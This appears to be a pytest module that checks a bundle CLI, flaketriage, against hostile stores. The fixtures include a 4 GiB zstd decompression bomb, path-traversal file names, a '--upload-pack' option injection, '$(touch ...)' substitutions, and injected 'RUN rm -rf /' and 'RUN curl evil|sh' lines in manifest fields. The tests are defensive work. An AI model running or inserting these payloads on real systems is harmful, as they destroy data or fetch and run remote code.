"""What a bundle may do to the reader: a store written by someone else, read through the real CLI.

Decompression bombs (an object that inflates far past the size its manifest records, or a manifest
that does), manifests whose paths lead out of the workspace, exports that would carry lines the
manifest smuggled in, captured text that would drive rich or the terminal, and damaged objects,
index entries and store paths: each is one line (or a named problem for ``verify``), the right exit
status, bounded memory, and nothing written where it may not be.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import zstandard

from flaketriage.bundle.files import restore_files
from flaketriage.bundle.io import REF_PREFIX, BundleSummary, write_bundle
from flaketriage.bundle.manifest import (
    GPU,
    Command,
    Environment,
    Failure,
    FileEntry,
    Hardware,
    Manifest,
    Seeds,
    Source,
)
from flaketriage.bundle.safety import path_problem
from flaketriage.errors import BundleError, ObjectTooLargeError
from flaketriage.process.git import Git
from flaketriage.store import LocalStore, MemoryStore, Store
from flaketriage.store.base import ZSTD
from flaketriage.workers.materialize import materialize
from tests.hostile.conftest import Sandbox, assert_no_traceback, assert_one_line_error

BOMB_INFLATED = 4 << 30
PEAK_RSS_LIMIT_MB = 300
ADDRESS_SPACE_LIMIT = 1 << 30
"""A regression that inflates the bomb in memory dies of MemoryError (a traceback) instead of
taking 4 GiB of the machine."""


# -- building hostile stores ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def bomb() -> bytes:
    """The stored form of 4 GiB of zeros: a zstd frame of about 130 KB, compressed in a stream."""
    compressor = zstandard.ZstdCompressor(level=3).compressobj()
    zeros = bytes(1 << 20)
    parts = [compressor.compress(zeros) for _ in range(BOMB_INFLATED >> 20)]
    parts.append(compressor.flush())
    stored = ZSTD + b"".join(parts)
    assert len(stored) < 200_000
    return stored


def store_of(sandbox: Sandbox) -> LocalStore:
    return LocalStore(sandbox.store)


def manifest(sandbox: Sandbox, store: Store, **update: Any) -> Manifest:
    """A small, valid snapshot bundle's manifest, with `update` applied unchecked (hostile values)."""
    base = Manifest(
        command=Command(argv=(sys.executable, "-c", "raise SystemExit(3)"), cwd=str(sandbox.root / "orig")),
        source=Source(kind="snapshot", repo_path=str(sandbox.root / "orig")),
        failure=Failure(
            kind="exit", exit_code=3, detail="boom", fingerprint="ab" * 32, signature="exit 3|boom"
        ),
        environment=Environment(
            python="3.11.7", implementation="CPython", platform="Linux", machine="x86_64"
        ),
        logs={"stderr": store.put_bytes(b"boom\n")},
    )
    return base.model_copy(update=update)


def entry(store: Store, path: str, data: bytes = b"x\n") -> FileEntry:
    ref = store.put_bytes(data)
    return FileEntry.model_construct(path=path, sha256=ref.sha256, size=ref.size, executable=False, link=None)


def plant_object(store: LocalStore, key: str, stored: bytes) -> None:
    """Write an object's stored form directly, whatever it holds."""
    path = store._object_path(key)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(stored)


def plant_bomb_blob(sandbox: Sandbox, bomb: bytes, recorded_size: int) -> str:
    """A bundle whose one source file is the bomb, recorded as `recorded_size` bytes."""
    store = store_of(sandbox)
    key = hashlib.sha256(b"a blob that is not what it claims").hexdigest()
    plant_object(store, key, bomb)
    bomb_file = FileEntry(path="data.bin", sha256=key, size=recorded_size)
    return write_bundle(store, manifest(sandbox, store, source=Source(kind="snapshot", files=(bomb_file,))))


def plant_raw_manifest(
    sandbox: Sandbox, content: bytes = b"", *, stored: bytes | None = None, key: str = ""
) -> str:
    """A bundle listed in the index whose manifest is `content` (any bytes; stored raw under its
    hash), or whose object holds `stored` (any stored form) under `key`."""
    store = store_of(sandbox)
    key = key or hashlib.sha256(content).hexdigest()
    plant_object(store, key, b"\x00" + content if stored is None else stored)
    summary = BundleSummary.of(manifest(sandbox, store)).to_json() | {"id": key}
    store.put_ref(REF_PREFIX + key, json.dumps(summary).encode())
    return key


def raw_manifest(sandbox: Sandbox, **change: Any) -> bytes:
    """The canonical JSON of a valid manifest with top-level fields replaced by arbitrary JSON."""
    data = json.loads(manifest(sandbox, store_of(sandbox)).canonical_json())
    data.update(change)
    return json.dumps(data).encode()


# -- running the CLI --------------------------------------------------------------------------------
_MEASURED = """
import os, resource, subprocess, sys
limit = int(os.environ.pop("HOSTILE_AS_LIMIT"))
peak_file = os.environ.pop("HOSTILE_PEAK_FILE")
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
done = subprocess.run([sys.executable, "-m", "flaketriage", *sys.argv[1:]])
with open(peak_file, "w") as fh:
    fh.write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
sys.exit(done.returncode)
"""


def run_measured(sandbox: Sandbox, *args: str) -> tuple[subprocess.CompletedProcess[str], float]:
    """The CLI under an address-space limit; with the peak resident memory it reached, in MB."""
    peak_file = sandbox.root / "peak-rss-kb"
    env = sandbox.env({"HOSTILE_AS_LIMIT": str(ADDRESS_SPACE_LIMIT), "HOSTILE_PEAK_FILE": str(peak_file)})
    proc = subprocess.run(
        [sys.executable, "-c", _MEASURED, *args],
        cwd=sandbox.project,
        env=env,
        capture_output=True,
        text=True,
        errors="replace",
        timeout=300,
        check=False,
    )
    return proc, int(peak_file.read_text()) / 1024


def run_bytes(sandbox: Sandbox, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The CLI with its output as bytes (text mode would turn a raw carriage return into a newline)."""
    return subprocess.run(
        [sys.executable, "-m", "flaketriage", *args],
        cwd=sandbox.project,
        env=sandbox.env(),
        capture_output=True,
        timeout=300,
        check=False,
    )


def assert_verify_damaged(proc: subprocess.CompletedProcess[str], *needles: str) -> list[str]:
    """``verify`` found the bundle damaged: exit 1, each problem named, one ``error:`` line."""
    assert_one_line_error(proc, 1, "is damaged")
    problems = [line[len("problem: ") :] for line in proc.stderr.splitlines() if line.startswith("problem: ")]
    assert problems, proc.stderr
    for needle in needles:
        assert any(needle in p for p in problems), (needle, proc.stderr)
    return problems


def assert_nothing_exported(sandbox: Sandbox) -> None:
    """No reproduction and no temp directory beside where it would have gone."""
    assert sorted(os.listdir(sandbox.project)) == [".flaketriage"]


# -- decompression bombs ----------------------------------------------------------------------------
def test_a_blob_that_inflates_past_its_recorded_size_is_refused_in_bounded_memory(
    sandbox: Sandbox, bomb: bytes
) -> None:
    bundle = plant_bomb_blob(sandbox, bomb, recorded_size=100)

    shown, peak = run_measured(sandbox, "bundle", "show", bundle)
    assert shown.returncode == 0, shown.stderr  # show reads only the manifest
    assert peak < PEAK_RSS_LIMIT_MB

    verified, peak = run_measured(sandbox, "bundle", "verify", bundle)
    assert_verify_damaged(verified, "inflates past the 100 bytes its manifest records")
    assert peak < PEAK_RSS_LIMIT_MB

    exported, peak = run_measured(sandbox, "bundle", "export", bundle, "repro")
    assert_one_line_error(exported, 2, "inflates past the 100 bytes its manifest records")
    assert peak < PEAK_RSS_LIMIT_MB
    assert_nothing_exported(sandbox)

    triaged, peak = run_measured(sandbox, "triage", bundle, "--sandbox", "process")
    assert_one_line_error(triaged, 2, "inflates past the 100 bytes its manifest records")
    assert peak < PEAK_RSS_LIMIT_MB
    assert_nothing_exported(sandbox)
    assert sandbox.outside_writes() == set()


def test_a_manifest_that_inflates_past_the_manifest_cap_is_refused_in_bounded_memory(
    sandbox: Sandbox, bomb: bytes
) -> None:
    bundle = plant_raw_manifest(sandbox, stored=bomb, key=hashlib.sha256(b"a manifest").hexdigest())
    for command in (["bundle", "show", bundle], ["bundle", "export", bundle, "repro"], ["triage", bundle]):
        proc, peak = run_measured(sandbox, *command)
        assert_one_line_error(proc, 2, bundle, "the most a manifest may hold")
        assert peak < PEAK_RSS_LIMIT_MB, command
    verified, peak = run_measured(sandbox, "bundle", "verify", bundle)
    assert_verify_damaged(verified, "the most a manifest may hold")
    assert peak < PEAK_RSS_LIMIT_MB
    assert_nothing_exported(sandbox)
    assert sandbox.outside_writes() == set()


def test_a_blob_whose_manifest_claims_a_huge_size_is_refused_before_anything_is_written(
    sandbox: Sandbox, bomb: bytes
) -> None:
    # Decision (docs/store/index.md, "Reads: verified and bounded"): a recorded size is trusted
    # only up to the free space where the blob is written, and streaming keeps memory bounded
    # whatever it claims.
    bundle = plant_bomb_blob(sandbox, bomb, recorded_size=1 << 50)
    exported, peak = run_measured(sandbox, "bundle", "export", bundle, "repro")
    assert_one_line_error(exported, 2, f"its manifest records {1 << 50} bytes, more than the", "bytes free")
    assert peak < PEAK_RSS_LIMIT_MB
    assert_nothing_exported(sandbox)
    # verify streams all 4 GiB through the hash and finds it is not the blob it claims to be
    verified, peak = run_measured(sandbox, "bundle", "verify", bundle)
    assert_verify_damaged(verified, "is corrupt: its content hashes to")
    assert peak < PEAK_RSS_LIMIT_MB
    assert sandbox.outside_writes() == set()


@pytest.mark.parametrize("backend", ["local", "memory"])
def test_every_store_honours_the_size_bound_and_writes_nothing(
    tmp_path: Path, bomb: bytes, backend: str
) -> None:
    store: Store = LocalStore(tmp_path / "store") if backend == "local" else MemoryStore()
    key = hashlib.sha256(b"bomb").hexdigest()
    store._write_object(key, bomb)
    dest = tmp_path / "out" / "file.bin"
    dest.parent.mkdir()
    with pytest.raises(ObjectTooLargeError, match="inflates past the 1000 bytes its manifest records"):
        store.get_bytes(key, max_size=1000)
    with pytest.raises(ObjectTooLargeError, match="inflates past the 1000 bytes"):
        store.get_file(key, dest, max_size=1000)
    assert list(dest.parent.iterdir()) == []  # the staged temp file is gone too
    with pytest.raises(ObjectTooLargeError, match=r"more than the .* flaketriage reads into memory"):
        store.get_bytes(key, max_size=BOMB_INFLATED)
    with pytest.raises(ObjectTooLargeError, match="the most read into memory"):
        store.get_bytes(key)  # no recorded size: the in-memory cap still holds


# -- path safety: verify names it, every restore refuses it with the same message -------------------
def _hostile_cases(sandbox: Sandbox, store: Store) -> dict[str, tuple[dict[str, Any], str]]:
    snapshot = Source(kind="snapshot")
    deep = "/".join(["d"] * 65) + "/f.txt"
    return {
        "empty name": ({"source": Source(kind="snapshot", files=(entry(store, ""),))}, "is empty"),
        "NUL byte": ({"source": Source(kind="snapshot", files=(entry(store, "a\x00b"),))}, "NUL byte"),
        "dot-dot": ({"source": Source(kind="snapshot", files=(entry(store, "../../outside/x"),))}, "'..'"),
        "absolute": (
            {"source": Source(kind="snapshot", files=(entry(store, str(sandbox.outside / "abs.txt")),))},
            "is absolute",
        ),
        "file and directory": (
            {"source": Source(kind="snapshot", files=(entry(store, "a"), entry(store, "a/b")))},
            "is a file and also the directory of 'a/b'",
        ),
        "absurd nesting": (
            {"source": Source(kind="snapshot", files=(entry(store, deep),))},
            "is nested 66 levels deep",
        ),
        "null commit": ({"source": Source(kind="git", repo_path=str(sandbox.project))}, "is not a commit id"),
        "zero commit": ({"source": Source(kind="git", commit="0" * 40, remote="x")}, "is not a commit id"),
        "option as remote": (
            {"source": Source(kind="git", commit="a" * 40, remote="--upload-pack=touch pwned")},
            "git would read it as an option",
        ),
        "working directory outside": (
            {"source": snapshot.model_copy(update={"subdir": "../../outside"})},
            "'..'",
        ),
    }


CASES = [
    "empty name",
    "NUL byte",
    "dot-dot",
    "absolute",
    "file and directory",
    "absurd nesting",
    "null commit",
    "zero commit",
    "option as remote",
    "working directory outside",
]


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_manifest_is_named_by_verify_and_refused_by_export(sandbox: Sandbox, case: str) -> None:
    store = store_of(sandbox)
    update, needle = _hostile_cases(sandbox, store)[case]
    bundle = write_bundle(store, manifest(sandbox, store, **update))

    problems = assert_verify_damaged(sandbox.run("bundle", "verify", bundle), needle)
    exported = sandbox.run("bundle", "export", bundle, "repro")
    line = assert_one_line_error(exported, 2, needle)
    # the same core check, the same message, in verify and in the restore
    assert any(line[len("error: ") :].startswith(p) for p in problems), (line, problems)
    assert_nothing_exported(sandbox)
    assert sandbox.outside_writes() == set()
    assert not (sandbox.project / "pwned").exists()


@pytest.mark.parametrize("case", ["dot-dot", "absolute", "working directory outside"])
def test_triage_refuses_a_hostile_manifest_before_writing_anything(sandbox: Sandbox, case: str) -> None:
    store = store_of(sandbox)
    update, needle = _hostile_cases(sandbox, store)[case]
    bundle = write_bundle(store, manifest(sandbox, store, **update))
    proc = sandbox.run("triage", bundle, "--sandbox", "process")
    assert_one_line_error(proc, 2, needle)
    assert sandbox.outside_writes() == set()  # the temp workspace under TMPDIR is gone as well


def test_every_restore_refuses_with_the_message_verify_gives(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "store")
    dest = tmp_path / "dest"
    dest.mkdir()
    hostile = entry(store, "../escaped.txt")
    expected = path_problem("../escaped.txt")
    assert expected is not None
    with pytest.raises(BundleError) as restored:
        restore_files(store, [entry(store, "fine.txt"), hostile], dest)
    assert str(restored.value) == expected
    assert list(dest.iterdir()) == []  # checked before the first file is written
    bundle = Manifest(
        command=Command(argv=("true",), cwd="/x"),
        source=Source(kind="snapshot", files=(hostile,)),
        failure=Failure(kind="exit", fingerprint="ab" * 32, signature="s"),
        environment=Environment(python="3.11.7", implementation="CPython", platform="Linux", machine="x"),
    )
    with pytest.raises(BundleError) as materialized:
        materialize(store, bundle, tmp_path / "ws", git=Git())
    assert str(materialized.value) == expected
    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path / "ws").exists()


def test_verify_names_every_problem_and_separates_usage_errors(sandbox: Sandbox) -> None:
    store = store_of(sandbox)
    files = (entry(store, "../a"), entry(store, "/b"), entry(store, "c\x00"))
    bundle = write_bundle(store, manifest(sandbox, store, source=Source(kind="git", files=files)))
    problems = assert_verify_damaged(
        sandbox.run("bundle", "verify", bundle), "'..'", "is absolute", "NUL byte", "not a commit id"
    )
    assert len(problems) == 4
    assert_one_line_error(sandbox.run("bundle", "verify", "feedbeef"), 2, "no bundle feedbeef")
    bad_option = sandbox.run("bundle", "verify", bundle, "--no-such-option")
    assert bad_option.returncode == 2, bad_option.stderr
    assert_no_traceback(bad_option)


@pytest.mark.parametrize(
    ("raw", "needle"),
    [
        (b"{not json", "is not valid JSON"),
        (
            b'{"schema_version": 3, "kind": "command"}',
            "is not a valid bundle manifest: command: Field required",
        ),
        (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
        (b"[" * 100 + b"]" * 100, "more than 64 levels"),
    ],
)
def test_a_manifest_that_does_not_parse_is_one_line_for_show_and_a_problem_for_verify(
    sandbox: Sandbox, raw: bytes, needle: str
) -> None:
    bundle = plant_raw_manifest(sandbox, raw)
    shown = sandbox.run("bundle", "show", bundle)
    assert_one_line_error(shown, 2, needle)
    assert len(shown.stderr.splitlines()) == 1
    assert_verify_damaged(sandbox.run("bundle", "verify", bundle), needle)
    assert sandbox.outside_writes() == set()


# -- exports carry no smuggled line ---------------------------------------------------------------------
ARGV_SCRIPT = (
    "import json, os, sys; "
    "open('argv.json', 'w').write(json.dumps([sys.argv[1:], os.environ.get('MY_SEED')]))"
)
SMUGGLED = ("RUN ", "export EVIL", "# Injected", "touch ")


def _smuggled_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith(SMUGGLED)]


def test_an_export_writes_no_line_the_manifest_smuggled_in(sandbox: Sandbox) -> None:
    store = store_of(sandbox)
    pwned = sandbox.outside / "pwned"
    argv = (
        sys.executable,
        "-c",
        ARGV_SCRIPT,
        f"$(touch {pwned})",
        f"`touch {pwned}-2`",
        "two\nRUN lines",
        'it\'s "quoted" $HOME',
        "\x1b[31mred\r",
    )
    bundle = write_bundle(
        store,
        manifest(
            sandbox,
            store,
            command=Command(argv=argv, cwd=str(sandbox.root / "orig"), env={"X": "a\nRUN b"}),
            seeds=Seeds(python_hash_seed="1234", env={"MY_SEED": "7\nexport EVIL=1"}),
            environment=Environment(
                python="3.11\nRUN rm -rf /",
                implementation="CPython\nRUN rm -rf /",
                platform="Linux\nRUN rm -rf /",
                machine="x86_64",
                packages=(
                    "numpy\nRUN curl evil|sh",
                    "six==1.16.0\nRUN curl evil|sh",
                    "ok==1.0; python_version > '3'\nRUN curl evil|sh",
                    "numpy==1.26.4",
                ),
            ),
            hardware=Hardware(gpus=(GPU(index=0, name="A100\nRUN rm -rf /"),), cuda_version="12\nRUN x"),
            failure=Failure(
                kind="exception",
                exception_type="RuntimeError",
                message="boom\n# Injected heading\nRUN rm -rf /\n```\n<script>x</script>",
                fingerprint="ab" * 32,
                signature="s",
            ),
        ),
    )
    proc = sandbox.run("bundle", "export", bundle, "repro")
    assert proc.returncode == 0, proc.stderr
    repro = sandbox.project / "repro"
    for name in ("Dockerfile", "requirements.txt", "run.sh", "README.md"):
        text = (repro / name).read_text()
        assert _smuggled_lines(text) == [] or name == "Dockerfile", (name, _smuggled_lines(text))
        assert "\x1b" not in text and "\r" not in text, name
    docker = (repro / "Dockerfile").read_text()
    assert _smuggled_lines(docker) == ["RUN pip install --no-cache-dir -r requirements.txt"]
    assert "FROM python:3-slim" in docker and "is not a version number" in docker
    requirements = (repro / "requirements.txt").read_text()
    assert [line for line in requirements.splitlines() if line and not line.startswith("#")] == [
        "numpy==1.26.4"
    ]
    readme = (repro / "README.md").read_text()
    assert "<script>" not in readme
    assert [line for line in readme.splitlines() if line.startswith("# ")] == [
        line for line in readme.splitlines() if line.startswith("# Reproduction: ")
    ]
    assert subprocess.run(["bash", "-n", str(repro / "run.sh")], check=False).returncode == 0
    env = {k: v for k, v in sandbox.env().items() if k not in ("PYTHON", "PYTHONPATH")}
    done = subprocess.run(
        ["bash", str(repro / "run.sh")], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    ran_with = json.loads((repro / "workspace" / "argv.json").read_text())
    assert ran_with == [list(argv[3:]), "7\nexport EVIL=1"]  # literally, every byte
    assert not pwned.exists() and not Path(f"{pwned}-2").exists()
    assert sandbox.outside_writes() == set()


# -- captured text is escaped before rich renders it ----------------------------------------------------
def test_list_and_show_print_captured_text_literally(sandbox: Sandbox) -> None:
    store = store_of(sandbox)
    message = "no such file [/data/train.csv] [bold]x[/] :smile: \x1b[2J\x1b]0;title\x07 \u202eevil\r"
    write_bundle(
        store,
        manifest(
            sandbox,
            store,
            command=Command(argv=("python", "[/red]", "-c", "x\x1b[31m"), cwd="/w[/]"),
            failure=Failure(
                kind="exception",
                exception_type="FileNotFoundError",
                message=message,
                traceback="Traceback (most recent call last):\n  [/data]\x1b[31m\nFileNotFoundError",
                fingerprint="ab" * 32,
                signature="s",
            ),
        ),
    )
    for args in (["bundle", "list"], ["bundle", "show", _only_bundle(store)], ["bundle", "list", "--json"]):
        proc = run_bytes(sandbox, *args)
        assert proc.returncode == 0, proc.stderr
        shown = proc.stdout.decode()
        assert b"Traceback" not in proc.stderr, proc.stderr
        for raw in (b"\x1b", b"\r", b"\x07", "\u202e".encode()):
            assert raw not in proc.stdout and raw not in proc.stderr, (args, raw)
        if "--json" not in args:
            assert "[/data/train.csv]" in shown and "[bold]x[/]" in shown and ":smile:" in shown, shown
            assert "\\x1b[2J" in shown and "\\u202eevil" in shown
    show = run_bytes(sandbox, "bundle", "show", _only_bundle(store)).stdout.decode()
    assert "[/red]" in show and "/w[/]" in show and "  [/data]\\x1b[31m" in show.splitlines()
    assert sandbox.outside_writes() == set()


def _only_bundle(store: Store) -> str:
    (name,) = store.list_refs(REF_PREFIX)
    return name[len(REF_PREFIX) :]


# -- damaged objects, index entries and store paths -----------------------------------------------------
def test_an_empty_object_says_it_is_empty_and_which(sandbox: Sandbox) -> None:
    store = store_of(sandbox)
    bundle = write_bundle(store, manifest(sandbox, store))
    stderr_key = json.loads(store.get_bytes(bundle))["logs"]["stderr"]["sha256"]
    store._object_path(stderr_key).write_bytes(b"")
    assert_verify_damaged(sandbox.run("bundle", "verify", bundle), stderr_key, "is empty (0 bytes")
    assert_one_line_error(
        sandbox.run("bundle", "export", bundle, "repro"), 2, stderr_key, "is empty", "Re-capture"
    )
    assert_nothing_exported(sandbox)
    empty_manifest = plant_raw_manifest(sandbox, stored=b"", key="e" * 64)
    assert_one_line_error(sandbox.run("bundle", "show", empty_manifest), 2, "e" * 64, "is empty (0 bytes")
    assert sandbox.outside_writes() == set()


def test_damaged_index_entries_are_reported_and_never_hide_the_others(sandbox: Sandbox) -> None:
    store = store_of(sandbox)
    good = write_bundle(store, manifest(sandbox, store))
    garbage = write_bundle(store, manifest(sandbox, store, kind="training"))
    store.put_ref(REF_PREFIX + garbage, b"\x00garbage{")
    missing = "d" * 64
    store.put_ref(
        REF_PREFIX + missing, store.get_ref(REF_PREFIX + good).replace(good.encode(), missing.encode())
    )
    store.put_ref(REF_PREFIX + "not-a-bundle", b"{}")

    listed = sandbox.run("bundle", "list")
    assert listed.returncode == 0 and "Traceback" not in listed.stderr, listed.stderr
    warnings = [line for line in listed.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 3, listed.stderr
    assert any(garbage in w and "is damaged" in w for w in warnings)
    assert any(missing in w and "manifest is missing" in w for w in warnings)
    assert any("not-a-bundle" in w and "does not name a bundle" in w for w in warnings)
    assert good[:12] in listed.stdout and garbage[:12] not in listed.stdout
    as_json = sandbox.run("bundle", "list", "--json")
    assert [b["id"] for b in json.loads(as_json.stdout)] == [good] and "warning:" in as_json.stderr

    assert_verify_damaged(sandbox.run("bundle", "verify", garbage), f"{REF_PREFIX}{garbage} is damaged")
    assert_verify_damaged(sandbox.run("bundle", "verify", missing), "manifest is missing")
    assert sandbox.run("bundle", "verify", good).returncode == 0
    assert sandbox.outside_writes() == set()


@pytest.mark.parametrize(
    ("store_path", "needle"),
    [
        ("s" * 5000, "more than the 4095 a path may hold"),
        ("store/" + "n" * 300 + "/x", "more than the 255 a file name may hold"),
        ("file:///" + "u" * 5000, "more than the 4095 a path may hold"),
    ],
)
def test_a_store_path_no_file_system_can_hold_is_one_line(
    sandbox: Sandbox, store_path: str, needle: str
) -> None:
    commands: Sequence[tuple[Sequence[str], Sequence[str]]] = (
        (["bundle", "list"], []),
        (["bundle", "verify"], ["abcd"]),
        (["bundle", "show"], ["abcd"]),
        (["capture"], ["--", sys.executable, "-c", "open('ran', 'w')"]),
    )
    for words, rest in commands:
        proc = sandbox.run(*words, "--store", store_path, *rest)
        line = assert_one_line_error(proc, 2, needle, "--store")
        assert len(line) < 400, line
        proc = sandbox.run(*words, *rest, env={"FLAKETRIAGE_STORE": store_path})
        assert_one_line_error(proc, 2, needle)
    assert not (sandbox.project / "ran").exists()  # refused before the command ran
    assert sandbox.outside_writes() == set()
